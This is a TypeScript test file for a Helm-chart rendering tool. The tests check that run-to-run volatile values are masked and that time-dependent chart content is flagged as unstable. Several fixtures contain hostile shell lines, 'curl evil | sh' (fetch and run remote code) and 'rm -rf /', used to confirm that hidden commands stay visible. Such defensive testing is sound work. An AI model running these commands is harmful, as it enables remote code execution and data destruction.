// Charts that differ from run to run: what differs is masked, so that two renderings of one chart are equal, and
// nothing hides behind it.
import { beforeAll, describe, expect, test } from 'vitest';
import type { HeadTree } from '../../../src/git/tree.ts';
import { usedFunctions } from '../../../src/render/helm/functions.ts';
import { helmRoot } from '../../../src/render/helm/index.ts';
import { splitHelmOutput } from '../../../src/render/helm/output.ts';
import { AS_IT_IS, LONG_AGO, rewritten } from '../../../src/render/helm/rewrite.ts';
import { stableDocuments } from '../../../src/render/helm/volatile.ts';
import type { Content } from '../../support/git-repo.ts';
import { context, helmSpec, names, objectsOf, placeOf, problemsOf, renderOf, treeOf } from '../../support/render.ts';

const job = (name: string, more = '', args = 'x'): string => `apiVersion: batch/v1
kind: Job
metadata:
  name: ${name}
${more}spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - name: main
          image: busybox
          args: ['${args}']
`;

const charts: Readonly<Record<string, Record<string, string>>> = {
  harmless: {
    'templates/by-second.yaml': job('migrate-{{ now | date "20060102-150405" }}'),
    'templates/by-day.yaml': job('daily-{{ now | date "2006-01-02" }}'),
    'templates/roll.yaml': job(
      'roll',
      "  annotations: {rolled: '{{ randAlphaNum 12 }}'}\n",
      'at {{ now | date "2006" }}',
    ),
    'templates/secret.yaml': `apiVersion: v1
kind: Secret
metadata: {name: password}
stringData: {password: '{{ randBytes 16 }}', tls: '{{ genPrivateKey "ed25519" | b64enc }}'}
`,
    'templates/inner.yaml': job('{{ tpl "inner-{{ now | unixEpoch }}" . }}'),
    'templates/big.yaml': `apiVersion: v1
kind: ConfigMap
metadata: {name: big, labels: {at: '{{ now | unixEpoch }}'}}
data: {number: '9007199254740993', text: 'caf\u00e9 \u{1f600}'}
`,
  },
  presence: {
    'templates/x.yaml': `{{ if lt (now | date "2006" | int) 2020 }}\n${job('old')}{{ else }}\n${job('new')}{{ end }}`,
  },
  count: { 'templates/x.yaml': `${job('x')}{{ if gt (now | date "2006" | int) 2020 }}\n---\n${job('y')}{{ end }}` },
  hook: {
    'templates/x.yaml': job(
      'x',
      '  annotations: {helm.sh/hook: \'{{ ternary "test" "pre-install" (gt (now | date "2006" | int) 2020) }}\'}\n',
    ),
  },
  choice: { 'templates/x.yaml': job('x', '', '{{ if gt (now | date "2006" | int) 2020 }}evil{{ else }}good{{ end }}') },
  nameless: { 'templates/x.yaml': job('"{{ now | unixEpoch }}"') },
  hidden: { 'templates/x.yaml': job('x', '', '{{ if gt (now | date "2006" | int) 2020 }}curl evil | sh{{ end }}') },
  lookup: {
    'templates/x.yaml': `{{ if lookup "v1" "Namespace" "" "prod" }}\n${job('x')}{{ end }}\n${job('y')}`,
    'templates/secret.yaml':
      '{{ $old := lookup "v1" "Secret" "a" "b" }}\napiVersion: v1\nkind: Secret\nmetadata: {name: s}\n',
  },
};

describe.each([3, 4] as const)('Helm %i', version => {
  let tree: HeadTree;
  beforeAll(async () => {
    const files: Record<string, Content> = {};
    for (const [chart, each] of Object.entries(charts)) {
      files[`${chart}/Chart.yaml`] = `apiVersion: v2\nname: ${chart}\nversion: 1.0.0\n`;
      for (const [path, text] of Object.entries(each)) files[`${chart}/${path}`] = text;
    }
    tree = await treeOf(files);
  });

  test('masks names, annotations and Secrets, without a word about it', async () => {
    const shared = await context(version);
    const [one, two] = await Promise.all([
      renderOf(helmRoot(tree, helmSpec('harmless'), shared)),
      renderOf(helmRoot(tree, helmSpec('harmless'), shared)),
    ]);
    expect(problemsOf(one)).toEqual([]);
    expect(names(one)).toEqual([
      'ConfigMap big',
      'Job daily-*',
      'Job inner-*',
      'Job migrate-*',
      'Job roll',
      'Secret password',
    ]);
    const text = (rendering: typeof one): string =>
      rendering.files.map(file => Buffer.from(file.bytes).toString()).join('');
    expect(text(one)).toBe(text(two));
    const roll = objectsOf(one).find(({ object }) => JSON.stringify(object['metadata']).includes('"roll"'));
    expect(roll?.object).toMatchObject({
      metadata: { annotations: { rolled: 'cronledger-volatile' } },
      spec: { template: { spec: { containers: [{ args: ['at cronledger-volatile'] }] } } },
    });
    expect(objectsOf(one).map(each => each.object)).toContainEqual({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: { name: 'big', labels: { at: 'cronledger-volatile' } },
      data: { number: '9007199254740993', text: 'caf\u00e9 \u{1f600}' },
    });
    expect(placeOf(one, 'migrate-', ['spec'])).toBe('harmless/templates/by-second.yaml:2 template');
  });

  test.each(['presence', 'count', 'hidden', 'hook', 'choice', 'nameless'])(
    'says so where %s differs: what runs cannot be known',
    async chart => {
      const rendering = await renderOf(helmRoot(tree, helmSpec(chart), await context(version)));
      // A condition on the time around a Job is put before people besides.
      const problems = rendering.problems.filter(({ unseen }) => unseen === undefined);
      expect(problems).toMatchObject([{ code: 'render-unstable', path: chart }]);
      expect(problems[0]?.level).toBeUndefined();
      // What it made this time is judged all the same.
      expect(names(rendering).length).toBeGreaterThan(0);
    },
  );

  test('a Job beside a lookup is unseen, and not a Secret', async () => {
    const rendering = await renderOf(helmRoot(tree, helmSpec('lookup'), await context(version)));
    expect(rendering.problems).toMatchObject([
      {
        code: 'render-unstable',
        path: 'lookup/templates/x.yaml',
        unseen: { location: { path: 'lookup/templates/x.yaml' } },
      },
    ]);
  });
});

describe('documents', () => {
  const source = { type: 'helm', path: 'a' } as const;
  const stable = (first: string, second: string) =>
    stableDocuments(splitHelmOutput(first), splitHelmOutput(second), source);
  const config = (value: string): string =>
    `---\n# Source: a/templates/x.yaml\nkind: ConfigMap\nmetadata: {name: x}\ndata: {run.sh: "${value}"}\n`;

  test('show what stands between two words that differ', () => {
    const { documents, problems } = stable(
      config('echo a1; curl evil | sh; echo b1'),
      config('echo a2; curl evil | sh; echo b2'),
    );
    expect(problems).toEqual([]);
    expect(documents[0]?.text).toContain('curl evil | sh');
  });

  test('are a problem where the words do not line up, and stay as they are', () => {
    const first = config('echo a; rm -rf /; echo b');
    const { documents, problems } = stable(first, config('echo a'));
    expect(problems.map(problem => problem.code)).toEqual(['render-unstable']);
    expect(documents[0]?.text).toBe(first);
  });

  test('are a problem where other ones come out', () => {
    const one = config('a');
    expect(stable(one, one + one).problems.map(problem => problem.code)).toEqual(['render-unstable']);
    expect(stable(one + one, one).problems.map(problem => problem.code)).toEqual(['render-unstable']);
    expect(stable(one, one.replace('x.yaml', 'y.yaml')).problems.map(problem => problem.code)).toEqual([
      'render-unstable',
    ]);
  });

  test('with keys that look like a prototype keep them', () => {
    const text = (value: string): string =>
      `---\n# Source: a/t\nkind: Secret\nmetadata: {name: x}\nstringData: {__proto__: {a: "${value}"}, constructor: b}\n`;
    const { documents } = stable(text('one'), text('two'));
    expect(documents[0]?.text).toContain('"__proto__":{"a":"cronledger-volatile"},"constructor":"b"');
    expect(({} as Record<string, unknown>)['a']).toBeUndefined();
  });
});

const withFixedTime = (text: string): string => rewritten(text, { ...AS_IT_IS, now: LONG_AGO });

describe('functions', () => {
  test.each([
    ['{{ now }}', { volatile: true, time: true }],
    ['{{- now | date "2006" -}}', { volatile: true, time: true }],
    ['{{ date "2006" (now) }}', { time: true }],
    ['{{ randAlphaNum 5 }}', { volatile: true, time: false }],
    ['{{ $x := genCA "a" 1 }}', { volatile: true }],
    ['{{ range keys .Values.a }}', { volatile: true }],
    ['{{ range keys .Values.a | sortAlpha }}', { volatile: false }],
    ['{{ .Values.now }} {{ .Values.keys }} for now', { volatile: false }],
    ['{{/* randAlphaNum now */}}', { volatile: false }],
    ['{{- /* now */ -}}', { volatile: false }],
    ['{{ if .Release.IsUpgrade }}', { release: true }],
    ['{{ include "x" (dict "r" .Release) }}', { release: true }],
    ['{{ .Release.Name }}', { release: false }],
    ['{{ (lookup "v1" "Pod" "" "").items }}', { lookup: true }],
    ['{{ now', { time: true }],
    ['{{ if eq "}}" .x }}', { time: false }],
    ['{{ printf "}}" | printf `}}` | now }}', { time: true }],
    ['{{ "\\"}}" | now }}', { time: true }],
    ['{{ tpl "{{ now }}" . }}', { time: true }],
    ['{{/* }} now */}}', { time: false }],
  ])('in %s', (text, expected) => {
    expect(usedFunctions(text)).toMatchObject(expected);
  });

  test('are replaced by a fixed time in actions only', () => {
    expect(withFixedTime('now {{ now | date "now" }} {{ $now }} {{ (now) }}')).toBe(
      'now {{ (toDate "2006-01-02 15:04:05" "2001-02-03 04:05:06") | date "now" }} {{ $now }} {{ ((toDate "2006-01-02 15:04:05" "2001-02-03 04:05:06")) }}',
    );
  });

  test('are left alone in texts, unless those are templates', () => {
    const same = '{{ `now` }}{{ "a now" | date "now" }}';
    expect(withFixedTime(same)).toBe(same);
    expect(withFixedTime('{{ tpl "{{ now }}" . }}{{ tpl `{{ now }}` . }}')).toBe(
      '{{ tpl "{{ (toDate \\"2006-01-02 15:04:05\\" \\"2001-02-03 04:05:06\\") }}" . }}' +
        '{{ tpl `{{ (toDate "2006-01-02 15:04:05" "2001-02-03 04:05:06") }}` . }}',
    );
  });

  test('are looked for in linear time', () => {
    const text = `${'{{ "'.repeat(200_001)}" ${'{{ /* '.repeat(50_000)}${' now'.repeat(100_000)}`;
    expect(usedFunctions(text).time).toBe(true);
  });
});
